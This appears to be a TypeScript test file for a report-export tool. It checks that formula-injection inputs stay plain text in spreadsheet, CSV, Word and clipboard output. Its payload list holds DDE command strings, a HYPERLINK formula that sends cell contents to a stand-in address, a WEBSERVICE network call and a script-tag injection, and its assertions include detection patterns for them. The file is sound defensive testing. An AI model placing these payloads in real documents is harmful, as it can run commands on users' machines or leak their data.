import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { openCsvSink } from "../../src/adapters/batch/csvSink";
import { renderAppendixDocx } from "../../src/adapters/docx/writeAppendix";
import { createXlsx, openXlsx } from "../../src/adapters/xlsx";
import { openWorkbookSink } from "../../src/adapters/xlsx/workbookSink";
import { renderAppendixHtml } from "../../src/core/appendix/renderHtml";
import { readTable } from "../../src/core/table/readTable";
import type { StreamedTable } from "../../src/ports/tableSink";
import { modelOf } from "../appendix/modelOf";

/** What spreadsheet programs take for a formula, a command or a call where it is typed or pasted (CWE-1236). */
const PAYLOADS = [
  ["formula", "=1+1"],
  ["DDE", "=cmd|' /C calc'!A0"],
  ["plus", "+cmd|' /C calc'!A0"],
  ["minus", "-2+3+cmd|' /C calc'!A0"],
  ["at sign", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["tab before a formula", "\t=1+1"],
  ["line end before a formula", "\r\n=1+1"],
  ["link", '=HYPERLINK("http://192.0.2.1/?x="&A1,"bấm vào đây")'],
  ["network call", '=WEBSERVICE("http://192.0.2.1/")'],
  ["quote and formula", '";=1+1;"'],
  ["markup", "</t></is></c><f>1+1</f>"],
  ["comment end", "--><script>alert(1)</script>"],
] as const;

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "ktxh-injection-"));
});
afterEach(() => rmSync(folder, { recursive: true }));

const TABLE: StreamedTable = {
  key: "rows",
  title: "Dòng",
  columns: [{ key: "name", title: "Tên", kind: "text", width: 20 }],
};
const NO_EDITS = { cells: [], columnWidths: [], fitRows: [], notes: [], highlights: [] };
const appendixOf = (text: string) =>
  modelOf([
    ["STT", "Chỉ tiêu", "Đơn vị", "Kế hoạch năm 2023", "Thực hiện năm 2023", "Ghi chú"],
    ["1", `Thu ${text}`, "tỷ đồng", "≥ 100", "101", text],
  ]);
const partsOf = (bytes: Uint8Array): string =>
  Object.values(unzipSync(bytes))
    .map((part) => strFromU8(part))
    .join("\n");

async function expectTextCell(bytes: Uint8Array, sheet: string, text: string): Promise<void> {
  const { cells } = await openXlsx(bytes).readSheet(sheet);
  const found = cells.find((cell) => cell.text.includes(text.trim()));
  expect(found).toMatchObject({ kind: "text" });
  expect(found).not.toHaveProperty("formula");
  expect(partsOf(bytes)).not.toContain("<f>");
}

describe.each(PAYLOADS)("%s stays text", (_, text) => {
  test("in a cell of an .xlsx", async () => {
    const workbook = createXlsx();
    const page = {
      orientation: "portrait",
      margins: { top: 20, bottom: 20, left: 30, right: 20 },
      fitToWidth: true,
      pageNumbers: false,
    } as const;
    const cell = { row: 1, column: 1, content: { kind: "text", runs: [{ text }] }, style: {} } as const;
    await workbook.putSheet({
      name: "Biểu",
      fontName: "Times New Roman",
      cells: [cell],
      merges: [],
      columnWidths: [],
      rowHeights: [],
      page,
    });
    await workbook.apply({ ...NO_EDITS, sheet: "Biểu", cells: [{ ...cell, row: 2 }] });
    await expectTextCell(workbook.save(), "Biểu", text);
  });

  test("in a note of an .xlsx", async () => {
    const workbook = openXlsx(readFileSync("assets/samples/hong-linh-2023.xlsx"));
    const [{ name = "" } = {}] = await workbook.listSheets();
    await workbook.apply({ ...NO_EDITS, sheet: name, notes: [{ row: 7, column: 5, author: "KTXH", text }] });
    const saved = workbook.save();
    const table = readTable(await openXlsx(saved).readSheet(name));
    expect(table?.rows).toHaveLength(21);
    const parts = Object.entries(unzipSync(saved)).filter(([part]) => part.includes("comments"));
    expect(parts.map(([, part]) => strFromU8(part)).join("")).not.toMatch(/<f>|<script/);
  });

  test("in a streamed .xlsx", async () => {
    const path = join(folder, "out.xlsx");
    const sink = await openWorkbookSink(path, [TABLE]);
    await sink.write("rows", [[text]]);
    await sink.close();
    await expectTextCell(readFileSync(path), "Dòng", text);
  });

  test("in a .csv that a spreadsheet program opens", async () => {
    const sink = await openCsvSink(folder, [TABLE], "spreadsheet");
    await sink.write("rows", [[text]]);
    await sink.close();
    const [, ...lines] = readFileSync(join(folder, "rows.csv"), "utf8").split("name\r\n");
    const field = lines.join("").trimEnd();
    expect(field).toMatch(/^"(?!\s*[=+\-@])[^]*"$/);
    // No quote inside ends the field.
    expect(field.slice(1, -1).replaceAll('""', "")).not.toContain('"');
  });

  test("in a .docx", async () => {
    const parts = partsOf(await renderAppendixDocx(appendixOf(text)));
    expect(parts).not.toMatch(
      /instrText[^>]*>[^<]*(?:cmd|HYPERLINK|WEBSERVICE)|<script|<f>|TargetMode="External"/,
    );
  });

  test("in the table copied to the clipboard", () => {
    const html = renderAppendixHtml(appendixOf(text));
    expect(html).not.toMatch(/<script|<f>/);
    for (const tag of html.match(/<(?:td|th|p) [^>]*>/g) ?? [])
      if (!tag.includes("vertical-align:top")) expect(tag).toContain("mso-number-format:'\\@'");
  });
});
